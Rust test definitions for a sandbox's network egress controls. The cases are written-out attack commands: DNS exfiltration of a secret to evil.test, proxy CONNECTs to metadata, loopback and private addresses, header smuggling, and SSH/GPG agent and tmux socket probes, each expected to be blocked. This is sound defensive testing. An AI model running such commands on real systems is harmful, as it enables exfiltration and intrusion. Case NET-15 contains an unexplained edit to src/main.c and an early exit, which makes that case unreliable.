//! Attacks by the network: around the proxy, through it, and by sockets that are no network.

use crate::case::{CASE, CORE, Case, DENIED, L, Need, Outside, Place, RUN, SOCKETS, TMP, Without};
use crate::runner::Work;

const UNREACHABLE: &[&str] = &["ENETUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL"];
const NOTHING_THERE: &[&str] = &["ECONNREFUSED", "ENOENT", "EACCES", "EPERM"];
const CLOSED: &[&str] = &["closed without an answer", "200 Connection established"];

/// What the proxy tests allow.
const HOSTS: &str = "network: [allowed.test, 'allowed.test:80', 'allowed.test:8000', \
                     '*.wild.test', private.test, metadata.test, loopback.test, own.test, \
                     nat64.test, sixtofour.test, mapped.test, 'rebind.test:8000', \
                     'mixed.test:8000']\n";

/// The proxy is the way out, not a layer that could be taken away: the twin shows that it lets
/// through what is allowed.
const PROXY: Without = Without::Refused("the proxy is the only way out; its twin gets through");

const ALLOWED: Outside = Outside::Twin(
    "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' \
     hello:allowed.test | grep 'server 93.184.216.34:443'",
);

/// An attack that asks the proxy for something.
const ASKS: Case = Case {
    policy: HOSTS,
    outside: ALLOWED,
    without: PROXY,
    ..CASE
};

pub(crate) const CASES: &[Case] = &[
    Case {
        id: "NET-01",
        what: "a public address is connected to",
        attack: "$PROBE con inet 203.0.113.10:$PORT $TOKEN",
        expect: UNREACHABLE,
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-01b",
        what: "a public address is connected to past the proxy",
        policy: HOSTS,
        attack: "$PROBE con inet 203.0.113.10:443 $TOKEN",
        expect: &["ECONNRESET", "closed"],
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-01c",
        what: "another port of a public address is connected to past the proxy",
        policy: HOSTS,
        attack: "$PROBE con inet 203.0.113.10:$PORT $TOKEN",
        expect: UNREACHABLE,
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-02",
        what: "an address of IPv6 is connected to",
        attack: "$PROBE con inet [2001:db8::1]:$PORT $TOKEN",
        expect: UNREACHABLE,
        layers: &[L::Net],
        needs: &[Need::Surroundings, Need::Path("/proc/net/if_inet6")],
        ..CASE
    },
    Case {
        id: "NET-04",
        what: "a secret is sent as a name to be looked up",
        attack: "$PROBE dns 127.0.0.53:53 c2VjcmV0.evil.test A",
        expect: &["NXDOMAIN"],
        outside: Outside::Twin("$PROBE dns 127.0.0.53:53 allowed.test A"),
        ..ASKS
    },
    Case {
        id: "NET-04b",
        what: "a secret is sent in a datagram",
        attack: "$PROBE udp 203.0.113.10:$UPORT $TOKEN",
        expect: UNREACHABLE,
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-05",
        what: "records that carry data are asked for of an allowed name",
        attack: "r=1; for t in TXT MX ANY AXFR; do \
                 $PROBE dns 127.0.0.53:53 allowed.test $t && r=0; done; exit $r",
        expect: &["REFUSED"],
        outside: Outside::Twin("$PROBE dns 127.0.0.53:53 allowed.test A"),
        ..ASKS
    },
    Case {
        id: "NET-06",
        what: "data goes out as many names below a wildcard",
        attack: "$PROBE names 127.0.0.53:53 100 wild.test",
        expect: &["after 6"],
        outside: Outside::Twin("$PROBE names 127.0.0.53:53 20 wild.test"),
        ..ASKS
    },
    Case {
        id: "NET-07",
        what: "a resolver over HTTPS is asked",
        attack: "$PROBE raw $px 'CONNECT dns.evil.test:443 HTTP/1.1\\r\\nHost: dns.evil.test:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-09",
        what: "a server of the host is reached by a spelling of its loopback address",
        attack: "r=1; for a in 127.0.0.1 0.0.0.0 127.1.2.3 [::1] [::ffff:127.0.0.1]; do \
                 $PROBE con inet $a:$PORT $TOKEN && r=0; done; exit $r",
        expect: &["ECONNREFUSED"],
        layers: &[L::Net],
        ..CASE
    },
    Case {
        id: "NET-10",
        what: "the proxy is asked for a server of the host",
        attack: "r=1; for a in 127.0.0.1 localhost localhost. [::1] 0.0.0.0 loopback.test; do \
                 for p in $PORT 443; do $PROBE raw $px \"CONNECT $a:$p HTTP/1.1\\r\\nHost: $a:$p\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-10b",
        what: "the loopback address in spellings of C libraries",
        attack: "r=1; for a in 127.1 0x7f.1 2130706433 0177.0.0.1 [::ffff:7f00:1]; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-11",
        what: "the proxy is asked for addresses of the local network and of the host",
        attack: "r=1; for a in 10.9.9.9 192.168.1.1 172.16.0.1 100.64.0.1 own.test; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-12",
        what: "the metadata of a cloud are asked for",
        attack: "$PROBE con inet 169.254.169.254:80 $TOKEN",
        expect: UNREACHABLE,
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-12b",
        what: "the proxy is asked for the metadata of a cloud",
        attack: "r=1; for a in 169.254.169.254 metadata.test [fd00:ec2::254]; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-14",
        what: "an allowed name has a private address",
        attack: "$PROBE raw $px 'CONNECT private.test:443 HTTP/1.1\\r\\nHost: private.test:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-15",
        what: "a name has another address the second time",
        attack: "r=1; for i in 1 2; do $PROBE raw $px 'CONNECT rebind.test:8000 HTTP/1.1\\r\\nHost: rebind.test:8000\\r\\n\\r\\n' hi \
                 | tee /dev/stderr | grep 'server 10.9.9.9' && r=0; sed -i s/x/x/ src/main.c; exit $r; done",
        expect: &["server 93.184.216.36:8000"],
        ..ASKS
    },
    Case {
        id: "NET-15b",
        what: "a name has a private and a public address",
        attack: "$PROBE raw $px 'CONNECT mixed.test:8000 HTTP/1.1\\r\\nHost: mixed.test:8000\\r\\n\\r\\n' hi \
                 | tee /dev/stderr | grep 'server 10.9.9.9'",
        expect: &["server 93.184.216.37:8000"],
        ..ASKS
    },
    Case {
        id: "NET-16",
        what: "a private address is wrapped in one of IPv6",
        attack: "r=1; for a in nat64.test sixtofour.test mapped.test [64:ff9b::a09:909] [2002:a09:909::] [::ffff:10.9.9.9]; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-17",
        what: "a name that only looks like an allowed one",
        attack: "r=1; for a in evil-allowed.test allowed.test.evil.test evilallowed.test wild.test.evil.test; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-20",
        what: "a name with bytes that no name has",
        attack: "r=1; for a in 'evil.test\\0.allowed.test' 'evil.test\\r\\nX: .allowed.test' 'evil.test .allowed.test' 'evil.test\\t.allowed.test'; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-20b",
        what: "such a name by SOCKS",
        attack: "$PROBE raw 127.0.0.1:1080 '\\x' | cat; printf '\\5\\1\\0\\5\\1\\0\\3\\26evil.test\\0.allowed.test\\1\\273' \
                 > socks; exec 3<>/dev/tcp/127.0.0.1/1080; cat socks >&3; \
                 timeout 3 head -c 4 <&3 | od -An -tx1 | tee /dev/stderr | grep '05 00 05 00'",
        expect: &["05 00 05", "05 00"],
        ..ASKS
    },
    Case {
        id: "NET-21",
        what: "a name with escapes or a user in front",
        attack: "r=1; for q in 'CONNECT allowed.test%00.evil.test:443' 'CONNECT allowed.test@evil.test:443' \
                 'GET http://allowed.test@evil.test/' 'GET http://evil.test%2f@allowed.test/'; do \
                 $PROBE raw $px \"$q HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-22",
        what: "an address with a zone",
        attack: "$PROBE raw $px 'CONNECT [fe80::1%lo]:443 HTTP/1.1\\r\\nHost: [fe80::1%lo]:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-24",
        what: "other ports of an allowed host",
        attack: "r=1; for p in 22 25 444; do \
                 $PROBE raw $px \"CONNECT allowed.test:$p HTTP/1.1\\r\\nHost: allowed.test:$p\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-24b",
        what: "ports in odd spellings",
        attack: "r=1; for p in 65536 +443 0443 -1 0 '' 443x; do \
                 $PROBE raw $px \"CONNECT allowed.test:$p HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-25",
        what: "TLS for another name behind an allowed one",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' hello:evil.test \
                 | tee /dev/stderr | grep 'server 93'",
        expect: CLOSED,
        ..ASKS
    },
    Case {
        id: "NET-26",
        what: "something that is not TLS at the port of HTTPS",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' 'SSH-2.0-evil\\r\\n' \
                 | tee /dev/stderr | grep 'server 93'",
        expect: CLOSED,
        ..ASKS
    },
    Case {
        id: "NET-26b",
        what: "TLS without a name",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' plain-hello \
                 | tee /dev/stderr | grep 'server 93'",
        expect: CLOSED,
        ..ASKS
    },
    Case {
        id: "NET-27",
        what: "a first message of TLS that is longer than any",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' long-hello:evil.test \
                 | tee /dev/stderr | grep 'server 93'",
        expect: CLOSED,
        ..ASKS
    },
    Case {
        id: "NET-27b",
        what: "another name in a first message in records of one byte",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' slow-hello:evil.test \
                 | tee /dev/stderr | grep 'server 93'",
        expect: CLOSED,
        outside: Outside::Twin(
            "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' slow-hello:allowed.test \
             | grep 'server 93'",
        ),
        ..ASKS
    },
    Case {
        id: "NET-29",
        what: "a second request on one connection goes to another host",
        attack: "$PROBE raw $px 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' \
                 'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' | tee /dev/stderr | grep 'got.*evil'",
        expect: &["403"],
        outside: Outside::Twin(
            "$PROBE raw $px 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' \
             'GET http://allowed.test/second HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n' | grep 'got.*second'",
        ),
        ..ASKS
    },
    Case {
        id: "NET-29b",
        what: "the head of a request names another host than its line",
        attack: "$PROBE raw $px 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' | tee /dev/stderr | grep 'evil.test'",
        expect: &["400", "403"],
        ..ASKS
    },
    Case {
        id: "NET-30",
        what: "requests that two parsers read differently",
        attack: "r=1; for h in 'Content-Length: 3\\r\\nTransfer-Encoding: chunked' 'Content-Length: 3\\r\\nContent-Length: 4' \
                 'X: a\\r\\n folded: b' 'X : a' 'Transfer-Encoding: xchunked' 'Host: evil.test'; do \
                 $PROBE raw $px \"POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n$h\\r\\n\\r\\nabc\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-31",
        what: "a request turns into another protocol",
        attack: "$PROBE raw $px 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n' \
                 | tee /dev/stderr | grep -i 'got.*h2c'",
        expect: &["got [GET / HTTP/1.1", "400", "OK"],
        ..ASKS
    },
    Case {
        id: "NET-32",
        what: "the proxy is asked for another proxy on the host",
        attack: "r=1; for a in 127.0.0.1:3128 localhost:8080; do $PROBE raw $px \"CONNECT $a HTTP/1.1\\r\\nHost: $a\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-35",
        what: "a program without proxy connects to an allowed name's address with another name",
        attack: "a=$($PROBE dns 127.0.0.53:53 allowed.test A | cut -d' ' -f2); echo $a; \
                 $PROBE raw $a:443 hello:evil.test | tee /dev/stderr | grep 'server 93'",
        expect: &["closed without an answer", "ECONNRESET"],
        outside: Outside::Twin(
            "a=$($PROBE dns 127.0.0.53:53 allowed.test A | cut -d' ' -f2); \
             $PROBE raw $a:443 hello:allowed.test | grep 'server 93'",
        ),
        ..ASKS
    },
    Case {
        id: "NET-36",
        what: "an abstract socket of the host is connected to",
        attack: "$PROBE con unix @fix-$TOKEN",
        expect: NOTHING_THERE,
        layers: &[L::Net, L::Landlock],
        ..CASE
    },
    Case {
        id: "NET-37",
        what: "a socket below /run is connected to",
        attack: "$PROBE con unix /run/user/$ORDINARY/bus-$TOKEN",
        expect: NOTHING_THERE,
        layers: &[RUN, SOCKETS],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-37b",
        what: "a socket below /tmp is connected to",
        attack: "$PROBE con unix /tmp/wt-$TOKEN.sock",
        expect: NOTHING_THERE,
        layers: &[TMP, SOCKETS],
        ..CASE
    },
    Case {
        id: "NET-38",
        what: "a service of the host with a socket in the home directory is connected to",
        attack: "$PROBE con unix $H/h.sock",
        expect: NOTHING_THERE,
        layers: &[SOCKETS],
        ..CASE
    },
    Case {
        id: "NET-39",
        what: "a service that starts after the session is connected to",
        between: "listen $H/late.sock",
        attack: "$PROBE con unix $H/late.sock",
        residual: "sockets that appear in readable folders after the start are masked by no kernel before \
                   version 9 of Landlock",
        ..CASE
    },
    Case {
        id: "NET-40",
        what: "a datagram is sent to a service of the host",
        attack: "$PROBE dgram $H/d.sock",
        expect: NOTHING_THERE,
        layers: &[SOCKETS],
        ..CASE
    },
    Case {
        id: "NET-41",
        what: "the agent that holds keys is named in a variable",
        attack: "echo \"agent ${SSH_AUTH_SOCK:-none}\"; test -n \"$SSH_AUTH_SOCK\"",
        expect: &["agent none"],
        layers: &[L::Env],
        ..CASE
    },
    Case {
        id: "NET-41b",
        what: "the agent that holds keys is connected to",
        attack: "$PROBE con unix $H/.ssh/agent.sock",
        expect: NOTHING_THERE,
        layers: &[DENIED, SOCKETS],
        ..CASE
    },
    Case {
        id: "NET-42",
        what: "the agent for signatures is connected to",
        attack: "$PROBE con unix $H/.gnupg/S.gpg-agent",
        expect: NOTHING_THERE,
        layers: &[DENIED, SOCKETS],
        ..CASE
    },
    Case {
        id: "NET-45",
        what: "the screen's abstract socket is connected to",
        attack: "$PROBE con unix @/tmp/.X11-unix/X$TOKEN",
        expect: NOTHING_THERE,
        layers: &[L::Net, L::Landlock],
        ..CASE
    },
    Case {
        id: "NET-46",
        what: "keys are typed into a tmux of the host",
        setup: "tmux -f /dev/null -S /tmp/wt-$TOKEN.tmux new-session -d sh </dev/null >/dev/null 2>&1",
        attack: "tmux -S /tmp/wt-$TOKEN.tmux send-keys x",
        teardown: "tmux -S /tmp/wt-$TOKEN.tmux kill-server; rm -f /tmp/wt-$TOKEN.tmux",
        expect: &["No such file", "no server", "error connecting"],
        layers: &[TMP, SOCKETS],
        needs: &[Need::Program("tmux")],
        ..CASE
    },
    Case {
        id: "NET-47",
        what: "a daemon of the system is connected to",
        attack: "$PROBE con unix /mnt/daemon-$TOKEN.sock",
        expect: NOTHING_THERE,
        layers: &[SOCKETS],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-49",
        what: "sockets of other families are opened",
        attack: "$PROBE families",
        expect: &["alone"],
        layers: &[L::Seccomp],
        ..CASE
    },
    Case {
        id: "NET-50",
        what: "the kernel's events are listened to",
        attack: "$PROBE socket 16 3 15",
        expect: &["EPROTONOSUPPORT", "EAFNOSUPPORT"],
        layers: &[L::Seccomp],
        ..CASE
    },
    Case {
        id: "NET-51",
        what: "an address is added to a network device",
        attack: "ip address add 10.1.2.3/32 dev lo",
        teardown: "ip address del 10.1.2.3/32 dev lo",
        expect: &["not permitted"],
        layers: &[L::Capabilities, L::SecondUser],
        outside: Outside::SucceedsForRoot,
        needs: &[Need::Surroundings, Need::Program("ip")],
        ..CASE
    },
    Case {
        id: "NET-52",
        what: "a raw socket is opened",
        attack: "$PROBE socket 2 3 1",
        expect: &["EPERM"],
        layers: &[L::Seccomp, L::Capabilities, L::SecondUser],
        outside: Outside::SucceedsForRoot,
        ..CASE
    },
    Case {
        id: "NET-52b",
        what: "a protocol is opened that no rule knows",
        attack: "$PROBE socket 2 1 262",
        expect: &["EPROTONOSUPPORT"],
        layers: &[L::Seccomp],
        outside: Outside::Skipped("not every kernel has MPTCP"),
        without: Without::Succeeds,
        needs: &[Need::Path("/proc/sys/net/mptcp/enabled")],
        ..CASE
    },
    Case {
        id: "NET-54",
        what: "the network of a process of the host is joined",
        attack: "$PROBE join /proc/$VICTIM/ns/net",
        expect: &["ENOENT", "EPERM", "EACCES"],
        layers: &[L::Seccomp, L::Pid, L::Landlock],
        outside: Outside::SucceedsForRoot,
        without: Without::Refused("the file systems of processes stay their own; see NET-54b"),
        ..CASE
    },
    Case {
        id: "NET-54b",
        what: "a namespace is joined",
        attack: "$PROBE join /proc/self/ns/uts",
        expect: &["EPERM"],
        layers: &[L::Seccomp, L::Capabilities, L::SecondUser],
        outside: Outside::SucceedsForRoot,
        ..CASE
    },
    Case {
        id: "NET-56",
        what: "a port beside the one that is granted is connected to",
        policy: "network: {local_ports: [$PORT]}\n",
        attack: "$PROBE con inet 127.0.0.1:$OTHERPORT $TOKEN",
        expect: &["ECONNREFUSED"],
        layers: &[L::Net],
        ..CASE
    },
    Case {
        id: "NET-57",
        what: "a head of a megabyte is sent to the proxy",
        attack: "$PROBE raw $px 'GET http://allowed.test/ HTTP/1.1\\r\\nX: ' x:1000000 | tee /dev/stderr | grep ' 200 '",
        expect: &["400", "431", "closed"],
        ..ASKS
    },
    Case {
        id: "NET-57b",
        what: "the proxy is filled with connections that say nothing",
        attack: "$PROBE flood $px 200 >/dev/null & sleep 1; $PROBE raw $px \
                 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-59",
        what: "a list without hosts allows nothing",
        policy: "network: []\n",
        attack: "$PROBE raw $px 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["ECONNREFUSED", "403"],
        outside: Outside::Skipped("NET-07 has the twin, with a list that has hosts"),
        ..ASKS
    },
    Case {
        id: "NET-60",
        what: "a project's file that nobody trusts asks to observe only",
        policy: "",
        setup: "printf 'network:\\n  mode: observe\\n  domains: [evil.test]\\n' > egg.yaml",
        attack: "$PROBE raw $px 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["ECONNREFUSED", "403"],
        outside: Outside::Skipped("NET-07 has the twin, with the user's own file"),
        ..ASKS
    },
    Case {
        id: "NET-60b",
        what: "private addresses are reached where the user only observes",
        policy: "network: {mode: observe, domains: [allowed.test]}\n",
        attack: "r=1; for a in 10.9.9.9 169.254.169.254 127.0.0.1 private.test; do \
                 $PROBE raw $px \"CONNECT $a:443 HTTP/1.1\\r\\nHost: $a:443\\r\\n\\r\\n\" \
                 | tee /dev/stderr | grep ' 200 ' && r=0; done; exit $r",
        expect: &["403"],
        ..ASKS
    },
    Case {
        id: "NET-61",
        what: "QUIC to an allowed host",
        policy: HOSTS,
        attack: "a=$($PROBE dns 127.0.0.53:53 allowed.test A | cut -d' ' -f2); \
                 $PROBE udp ${a:-203.0.113.10}:${a:+44}3 x || $PROBE udp 203.0.113.10:$UPORT $TOKEN",
        expect: &["ECONNREFUSED"],
        layers: &[L::Net],
        needs: &[Need::Surroundings],
        ..CASE
    },
    Case {
        id: "NET-62",
        what: "records that would hide names are asked for",
        attack: "$PROBE dns 127.0.0.53:53 allowed.test HTTPS",
        expect: &["NOERROR with 0 answers"],
        outside: Outside::Twin("$PROBE dns 127.0.0.53:53 allowed.test A"),
        ..ASKS
    },
    Case {
        id: "NET-63",
        what: "a host name that would act on a terminal",
        attack: "$PROBE raw $px 'CONNECT \\e]0;evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | tee /dev/stderr | grep ' 200 '",
        expect: &["400"],
        ..ASKS
    },
    Case {
        id: "NET-64",
        what: "wingthing's own socket is connected to",
        attack: "$PROBE con unix $H/.wingthing/wt.sock",
        expect: NOTHING_THERE,
        layers: &[CORE, SOCKETS],
        place: Place::Home,
        ..CASE
    },
];

/// What the network must do.
pub(crate) const WORK: &[Work] = &[
    Work {
        id: "NET-W1",
        what: "an allowed name in another spelling",
        policy: HOSTS,
        script: "$PROBE raw $px 'CONNECT ALLOWED.Test.:443 HTTP/1.1\\r\\nHost: ALLOWED.Test.:443\\r\\n\\r\\n' \
                 hello:allowed.test | grep 'server 93.184.216.34:443'",
        outside: false,
        ..crate::runner::WORK
    },
    Work {
        id: "NET-W2",
        what: "a granted port of the machine",
        policy: "network: {local_ports: [$PORT]}\n",
        script: "$PROBE con inet 127.0.0.1:$PORT granted",
        ..crate::runner::WORK
    },
    Work {
        id: "NET-W3",
        what: "curl by the proxy's variables",
        policy: HOSTS,
        script: "curl -sS --max-time 8 http://allowed.test/page | grep 'got.*GET /page'",
        needs: &[Need::Program("curl")],
        outside: false,
        ..crate::runner::WORK
    },
    Work {
        id: "NET-W4",
        what: "a program without proxy reaches an allowed name",
        policy: HOSTS,
        script: "curl -sS --noproxy '*' --max-time 8 http://allowed.test/page | grep 'got.*GET /page'",
        needs: &[Need::Program("curl")],
        outside: false,
        ..crate::runner::WORK
    },
    Work {
        id: "NET-W5",
        what: "SOCKS with names",
        policy: HOSTS,
        script: "curl -sS --socks5-hostname 127.0.0.1:1080 --max-time 8 http://allowed.test/page | grep 'got.*GET /page'",
        needs: &[Need::Program("curl")],
        outside: false,
        ..crate::runner::WORK
    },
];
